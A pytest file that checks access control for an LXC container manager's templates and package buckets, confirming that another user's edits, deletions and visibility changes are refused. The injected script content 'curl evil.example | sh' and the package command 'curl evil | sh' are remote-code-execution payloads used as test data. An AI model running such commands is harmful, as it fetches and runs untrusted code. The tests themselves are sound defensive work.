"""Owners and visibility of templates and package buckets, against a real database: each
attack of another user is performed and refused, and nothing changes (issue 12, path 3)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from sqlmodel import select

from lxc_manager.db.engine import session_scope
from lxc_manager.db.migrate import upgrade_head
from lxc_manager.db.models import AuditEvent, Package, PackageBucket, Template, TemplateScript
from lxc_manager.pages.new_container.rows import ScriptRow
from lxc_manager.pages.new_container.state import WizardState
from lxc_manager.pages.package_buckets.state import BucketsState
from lxc_manager.pages.template_editor.state import TemplateEditorState
from lxc_manager.pages.templates.state import TemplatesState
from lxc_manager.security.actor import Actor
from lxc_manager.settings import get_settings
from lxc_manager.templates import service
from lxc_manager.templates.spec import BucketSpec, PackageSpec, ScriptSpec, TemplateSpec

A = Actor("alice@pve@3f9c0a1e2b4d5c6f", is_admin=False)
B = Actor("mallory@pve@3f9c0a1e2b4d5c6f", is_admin=False)
ADMIN = Actor("root@pam@3f9c0a1e2b4d5c6f", is_admin=True)

pytestmark = pytest.mark.usefixtures("app_settings")


@pytest.fixture(autouse=True)
def _db(app_settings: Path) -> None:
    upgrade_head()


def recipe(name: str, buckets: tuple[str, ...] = ()) -> TemplateSpec:
    return TemplateSpec(
        name=name,
        os_template="debian-12-standard",
        scripts=(ScriptSpec("10-setup.sh", 'log_info "the owner wrote this"\n'),),
        packages=(PackageSpec("apt", "nginx"),),
        buckets=buckets,
    )


def tools(name: str = "Base tools") -> BucketSpec:
    return BucketSpec(name, "every box", (PackageSpec("apt", "curl"), PackageSpec("apt", "jq")))


def snapshot() -> list[tuple[object, ...]]:
    """Every template, script, bucket and package row as it stands."""
    with session_scope() as db:
        rows: list[tuple[object, ...]] = []
        for t in db.exec(select(Template).order_by(Template.id)):
            rows.append(("t", t.id, t.name, t.owner, t.visibility, t.updated_by, t.updated_at))
        for s in db.exec(select(TemplateScript).order_by(TemplateScript.id)):
            rows.append(("s", s.template_id, s.name, s.content))
        for b in db.exec(select(PackageBucket).order_by(PackageBucket.id)):
            rows.append(("b", b.id, b.name, b.owner, b.visibility, b.updated_at))
        for p in db.exec(select(Package).order_by(Package.id)):
            rows.append(("p", p.template_id, p.bucket_id, p.manager, p.name))
        return rows


def audit_actions(actor: Actor) -> list[str]:
    with session_scope() as db:
        events = db.exec(select(AuditEvent).where(AuditEvent.user_id == actor.user_id))
        return [e.action for e in events]


async def shared_template_with_bucket() -> tuple[int, int]:
    bucket = await service.save_bucket(A, None, tools(), "shared")
    created = await service.create_template(A, recipe("Web app", ("Base tools",)), "shared")
    assert bucket.ok and created.ok, (bucket.errors, created.errors)
    assert bucket.id is not None and created.id is not None
    return created.id, bucket.id


async def test_another_user_cannot_edit_or_delete_a_shared_template() -> None:
    template_id, _ = await shared_template_with_bucket()
    stored = await service.get_template(B, template_id)
    assert stored is not None and stored.read_only and stored.owner == A.user_id
    before, b_audit = snapshot(), audit_actions(B)

    evil = replace(stored.spec, scripts=(ScriptSpec("10-setup.sh", "curl evil.example | sh\n"),))
    result = await service.update_template(B, template_id, evil, stored.version)
    assert result.errors == {"template": service.MSG_NOT_YOURS.format(owner="alice@pve")}
    # nor by making it private (to take it away from its users) or shared under another name
    assert not (await service.update_template(B, template_id, stored.spec, visibility="private")).ok
    assert await service.delete_template(B, template_id) == service.MSG_NOT_YOURS.format(
        owner="alice@pve"
    )
    assert snapshot() == before and audit_actions(B) == b_audit
    listed = next(t for t in await service.list_templates(B) if t.id == template_id)
    assert (listed.can_edit, listed.mine, listed.visibility) == (False, False, "shared")


async def test_another_user_cannot_edit_or_delete_a_bucket_a_shared_template_uses() -> None:
    template_id, bucket_id = await shared_template_with_bucket()
    bucket = await service.get_bucket(B, bucket_id)
    assert bucket is not None and not bucket.can_edit and bucket.used_by == ("Web app",)
    before = snapshot()

    evil = BucketSpec("Base tools", "", (PackageSpec("custom", "x", command="curl evil | sh"),))
    result = await service.save_bucket(B, bucket_id, evil)
    assert result.errors == {"bucket": service.MSG_BUCKET_NOT_YOURS.format(owner="alice@pve")}
    renamed = await service.save_bucket(B, bucket_id, replace(tools(), name="Mine now"))
    assert not renamed.ok
    assert await service.delete_bucket(B, bucket_id) == service.MSG_BUCKET_NOT_YOURS.format(
        owner="alice@pve"
    )
    assert snapshot() == before
    stored = await service.get_template(A, template_id)
    assert stored is not None
    assert [p.name for p in service.resolve_packages(A, stored.spec)] == ["nginx", "curl", "jq"]


async def test_private_templates_and_buckets_of_others_are_not_found() -> None:
    bucket = await service.save_bucket(A, None, tools("Alice tools"))
    created = await service.create_template(A, recipe("Alice secret", ("Alice tools",)))
    assert bucket.ok and created.ok and bucket.id and created.id
    assert await service.get_template(A, created.id) is not None
    before = snapshot()

    assert await service.get_template(B, created.id) is None
    assert await service.get_template(ADMIN, created.id) is None  # private means private
    assert await service.get_bucket(B, bucket.id) is None
    assert created.id not in [t.id for t in await service.list_templates(B)]
    assert "Alice tools" not in [b.name for b in await service.list_buckets(B)]
    assert (await service.duplicate_template(B, created.id)).errors == {
        "template": service.MSG_NOT_FOUND
    }
    assert (await service.update_template(B, created.id, recipe("x"))).errors == {
        "template": service.MSG_NOT_FOUND
    }
    assert await service.delete_template(B, created.id) == service.MSG_NOT_FOUND
    assert (await service.save_bucket(B, bucket.id, tools("x"))).errors == {
        "bucket": service.MSG_BUCKET_NOT_FOUND
    }
    assert await service.delete_bucket(B, bucket.id) == service.MSG_BUCKET_NOT_FOUND
    # Naming it in a template of one's own, or in the wizard, gives nothing either.
    own = await service.create_template(B, recipe("Mallory", ("Alice tools",)))
    assert own.errors == {"buckets": "No package bucket is named Alice tools"}
    wizard = TemplateSpec(name="wizard", packages=(PackageSpec("apt", "git"),))
    assert [p.name for p in service.resolve_packages(B, wizard, ("Alice tools",))] == ["git"]
    assert service.usable_buckets(B, ("Alice tools",)) == frozenset()
    assert await service.all_tags(B) == []
    assert snapshot() == before


async def test_only_administrators_sync_the_catalog() -> None:
    report = await service.sync_catalog(B)
    assert report.refused == service.MSG_ADMIN_ONLY and report.summary() == service.MSG_ADMIN_ONLY
    assert snapshot() == [] and audit_actions(B) == []
    # the page's event refuses a non-admin before the handler runs
    assert TemplatesState.event_handlers["sync"].fn.__lxcm_guard__ == "admin"

    synced = await service.sync_catalog(ADMIN)
    assert synced.errors == () and synced.added
    for summary in await service.list_templates(B):
        stored = await service.get_template(B, summary.id)
        assert stored is not None and stored.catalog and stored.read_only
        assert (stored.owner, stored.visibility) == (service.CATALOG_OWNER, "shared")
        assert (await service.get_template(ADMIN, summary.id)).read_only  # type: ignore[union-attr]
        assert (await service.update_template(ADMIN, summary.id, stored.spec)).errors == {
            "template": service.MSG_READ_ONLY
        }


async def test_an_administrator_edits_shared_templates_of_others_but_not_who_sees_them() -> None:
    template_id, bucket_id = await shared_template_with_bucket()
    stored = await service.get_template(ADMIN, template_id)
    assert stored is not None and not stored.read_only
    fixed = replace(stored.spec, description="reviewed by the admin")
    refused = await service.update_template(ADMIN, template_id, fixed, visibility="private")
    assert refused.errors == {"visibility": service.MSG_VISIBILITY_OWNER.format(owner="alice@pve")}
    assert (await service.update_template(ADMIN, template_id, fixed, stored.version)).ok
    after = await service.get_template(A, template_id)
    assert after is not None and after.spec.description == "reviewed by the admin"
    assert (after.owner, after.visibility, after.updated_by) == (A.user_id, "shared", ADMIN.user_id)
    bucket = await service.get_bucket(ADMIN, bucket_id)
    assert bucket is not None and bucket.can_edit
    # the admin's own private bucket cannot go into Alice's (shared) template
    assert (await service.save_bucket(ADMIN, None, tools("Admin only"))).ok
    leak = replace(fixed, buckets=("Base tools", "Admin only"))
    assert (await service.update_template(ADMIN, template_id, leak)).errors == {
        "buckets": "No package bucket is named Admin only"
    }


async def test_a_shared_template_never_uses_a_private_bucket() -> None:
    assert (await service.save_bucket(A, None, tools("Alice tools"))).ok
    created = await service.create_template(A, recipe("Web app", ("Alice tools",)))
    assert created.ok and created.id is not None
    # sharing the template while it uses a private bucket is refused...
    shared = await service.update_template(
        A, created.id, recipe("Web app", ("Alice tools",)), None, "shared"
    )
    assert "private package bucket Alice tools" in shared.errors["visibility"]
    assert not (await service.create_template(A, recipe("Web 2", ("Alice tools",)), "shared")).ok
    stored = await service.get_template(A, created.id)
    assert stored is not None and stored.visibility == "private"
    # ...until the bucket is shared; then the bucket cannot become private again.
    bucket = next(b for b in await service.list_buckets(A) if b.name == "Alice tools")
    assert (await service.save_bucket(A, bucket.id, tools("Alice tools"), "shared")).ok
    assert (await service.update_template(A, created.id, stored.spec, None, "shared")).ok
    before = snapshot()
    back = await service.save_bucket(A, bucket.id, tools("Alice tools"), "private")
    assert "it stays shared" in back.errors["visibility"]
    assert snapshot() == before
    # Another user's private template using the shared bucket blocks it as well.
    assert (await service.update_template(A, created.id, recipe("Web app"), None, "private")).ok
    assert (await service.create_template(B, recipe("Mallory web", ("Alice tools",)))).ok
    blocked = await service.save_bucket(A, bucket.id, tools("Alice tools"), "private")
    assert "it stays shared" in blocked.errors["visibility"]
    message = await service.delete_bucket(A, bucket.id)
    assert (
        message
        == "Alice tools is used by 1 template(s) of other users: remove it from those templates first"
    )


async def test_new_templates_and_buckets_are_private_and_a_duplicate_is_a_private_copy() -> None:
    created = await service.create_template(A, recipe("Web app"))
    bucket = await service.save_bucket(A, None, tools())
    assert created.id and bucket.id
    assert (await service.get_template(A, created.id)).visibility == "private"  # type: ignore[union-attr]
    assert (await service.get_bucket(A, bucket.id)).visibility == "private"  # type: ignore[union-attr]
    assert (await service.update_template(A, created.id, recipe("Web app"), visibility="shared")).ok
    copy = await service.duplicate_template(B, created.id)
    assert copy.ok and copy.id is not None
    stored = await service.get_template(B, copy.id)
    assert stored is not None and (stored.owner, stored.visibility) == (B.user_id, "private")
    assert await service.get_template(A, copy.id) is None
    assert (
        await service.update_template(A, created.id, recipe("Web app"), visibility="public")
    ).errors == {  # type: ignore[arg-type]
        "visibility": service.MSG_BAD_VISIBILITY
    }


async def test_per_user_caps_on_templates_and_buckets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LXCM_MAX_TEMPLATES_PER_USER", "2")
    get_settings.cache_clear()
    assert (await service.sync_catalog(ADMIN)).added  # catalog templates count for nobody
    assert (await service.create_template(A, recipe("One"))).ok
    shared = await service.create_template(A, recipe("Two"), "shared")
    assert shared.ok and shared.id is not None
    before = snapshot()
    third = await service.create_template(A, recipe("Three"))
    assert third.errors == {"template": service.MSG_TEMPLATE_LIMIT.format(count=2)}
    assert (await service.duplicate_template(A, shared.id)).errors == third.errors
    assert snapshot() == before
    # buckets count separately, with the same limit; another user has their own count
    assert (await service.save_bucket(A, None, tools("b1"))).ok
    assert (await service.save_bucket(A, None, tools("b2"))).ok
    assert (await service.save_bucket(A, None, tools("b3"))).errors == {
        "bucket": service.MSG_BUCKET_LIMIT.format(count=2)
    }
    assert (await service.create_template(B, recipe("Mallory one"))).ok
    assert (await service.duplicate_template(B, shared.id)).ok


def test_the_pages_guard_what_they_read_and_keep_scripts_out_of_the_wizard() -> None:
    """The wizard's choose_template ran without a session and put a template's scripts
    into browser state; it is guarded now, and the wizard holds no script contents before
    the review step."""
    assert WizardState.event_handlers["choose_template"].fn.__lxcm_guard__ == "session"
    assert WizardState.event_handlers["go"].fn.__lxcm_guard__ == "session"
    assert "content" not in ScriptRow.model_fields
    assert "_files" not in WizardState.__annotations__  # file contents were kept there
    for state, name in (
        (TemplatesState, "duplicate"),
        (TemplatesState, "delete"),
        (TemplateEditorState, "load"),
        (TemplateEditorState, "save"),
        (TemplateEditorState, "set_visibility"),
        (BucketsState, "save"),
        (BucketsState, "open_edit"),
        (BucketsState, "delete"),
    ):
        assert state.event_handlers[name].fn.__lxcm_guard__ == "session", (state, name)
